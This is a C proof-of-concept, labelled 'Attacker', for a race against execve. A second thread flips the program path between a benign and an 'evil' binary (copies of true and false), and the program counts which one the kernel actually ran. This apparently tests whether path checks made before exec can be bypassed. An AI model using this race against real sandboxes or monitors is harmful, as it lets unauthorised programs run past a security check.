/* Attacker: in each of N children a second thread rewrites the program path while
 * the main thread calls execve on it. DIR holds "harmless" (a copy of true) and
 * "evilprog" (a copy of false); the path is DIR padded with slashes so the name is
 * one aligned 8-byte word, flipped with one store. The exit status says which
 * program the kernel ran. Prints "evil E benign B". */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static union {
    char s[4096];
    uint64_t w[512];
} path;
static volatile uint64_t *word;

/* Keep the swapper running beside the victim: each on its own CPU (when there are two). */
static void pin(int cpu) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(cpu % (int)sysconf(_SC_NPROCESSORS_ONLN), &set);
    sched_setaffinity(0, sizeof set, &set);
}

static void *swapper(void *arg) {
    (void)arg;
    pin(1);
    uint64_t benign, evil;
    memcpy(&benign, "harmless", 8);
    memcpy(&evil, "evilprog", 8);
    for (;;) {
        *word = evil;
        *word = benign;
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 2 || strlen(argv[1]) > 4000) return 2;
    int n = argc > 2 ? atoi(argv[2]) : 20;
    size_t len = strlen(argv[1]);
    memcpy(path.s, argv[1], len);
    path.s[len++] = '/';
    while (len % 8) path.s[len++] = '/';
    memcpy(path.s + len, "harmless", 8);
    word = &path.w[len / 8];
    int e = 0, b = 0;
    for (int i = 0; i < n; i++) {
        pid_t pid = fork();
        if (pid == 0) {
            pin(0);
            pthread_t t;
            pthread_create(&t, NULL, swapper, NULL);
            char *args[] = {"harmless", NULL};
            execv(path.s, args);
            _exit(3);
        }
        int st;
        waitpid(pid, &st, 0);
        if (WIFEXITED(st) && WEXITSTATUS(st) == 1) e++;
        else if (WIFEXITED(st) && WEXITSTATUS(st) == 0) b++;
    }
    printf("evil %d benign %d\n", e, b);
    return 0;
}
